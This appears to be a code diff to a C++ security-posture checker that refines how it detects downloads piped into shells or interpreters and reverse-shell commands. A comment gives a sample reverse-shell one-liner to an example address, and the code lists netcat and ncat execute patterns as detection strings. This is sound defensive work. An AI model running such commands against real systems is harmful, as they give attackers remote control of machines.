@@ -8,8 +8,8 @@ namespace bulwark::posture {
 namespace {
 
 constexpr std::array<std::string_view, 2> downloaders{"curl", "wget"};
-constexpr std::array<std::string_view, 11> interpreters{"sh",      "bash", "ash",  "dash", "zsh", "python",
-                                                        "python3", "perl", "ruby", "node", "php"};
+constexpr std::array<std::string_view, 5> shells{"sh", "bash", "ash", "dash", "zsh"};
+constexpr std::array<std::string_view, 6> languages{"python", "python3", "perl", "ruby", "node", "php"};
 
 bool is_word(char c) {
   return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_' || c == '-' ||
@@ -48,12 +48,18 @@ bool downloads(std::string_view text) {
   });
 }
 
-bool is_interpreter(std::string_view text) {
+// The command runs what comes in: a shell or another interpreter without a script or a program (-c, -m) of its
+// own.
+bool runs_input(std::string_view text) {
   std::string_view word = take_word(text);
-  while (word == "sudo" || word == "env" || word == "exec" || (!word.empty() && word.starts_with('-'))) {
-    word = take_word(text);
-  }
-  return is_one_of(interpreters, word);
+  while (word == "sudo" || word == "env" || word == "exec" || word.starts_with('-')) word = take_word(text);
+  const bool shell = is_one_of(shells, word);
+  if (!shell && !is_one_of(languages, word)) return false;
+  text.remove_prefix(std::min(text.find_first_not_of(" \t"), text.size()));
+  const std::string_view option = text.substr(0, text.find_first_of(" \t\n;|&)\"'`<>#"));
+  if (option.empty() || option == "-") return true;
+  return shell && option.starts_with('-') &&
+         (option.starts_with("--") || option.find('c') == std::string_view::npos);
 }
 
 }  // namespace
@@ -68,7 +74,7 @@ bool runs_download(std::string_view command) {
     if (c == ';' || (c == '\n' && !continued) || (c == '&' && next == '&') || (c == '|' && next == '|')) {
       begin = i + 1;
       if (c == next) begin = ++i + 1;
-    } else if (c == '|' && downloads(command.substr(begin, i - begin)) && is_interpreter(command.substr(i + 1))) {
+    } else if (c == '|' && downloads(command.substr(begin, i - begin)) && runs_input(command.substr(i + 1))) {
       return true;
     }
   }
@@ -95,9 +101,13 @@ bool runs_download(std::string_view command) {
 
 bool is_reverse_shell(std::string_view command) {
   // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; a mere write to the device is how scripts wait for a port.
-  const auto has = [&](std::string_view part) { return command.find(part) != std::string_view::npos; };
-  if ((has("/dev/tcp/") || has("/dev/udp/")) && has("sh -i")) return true;
-  for (const std::string_view name : {"nc -e", "nc -c", "ncat -e", "ncat --exec", "netcat -e"}) {
+  if (command.find("/dev/tcp/") != std::string_view::npos || command.find("/dev/udp/") != std::string_view::npos) {
+    for (std::size_t at = command.find("sh -i"); at != std::string_view::npos;
+         at = command.find("sh -i", at + 1)) {
+      if (at == 0 || command[at - 1] != 's') return true;  // ssh -i names a key
+    }
+  }
+  for (const std::string_view name : {"nc -e", "ncat -e", "ncat --exec", "netcat -e"}) {
     const std::size_t at = command.find(name);
     if (at == std::string_view::npos || (at > 0 && is_word(command[at - 1]) && command[at - 1] != '/')) continue;
     if (command.find("sh", at) != std::string_view::npos) return true;
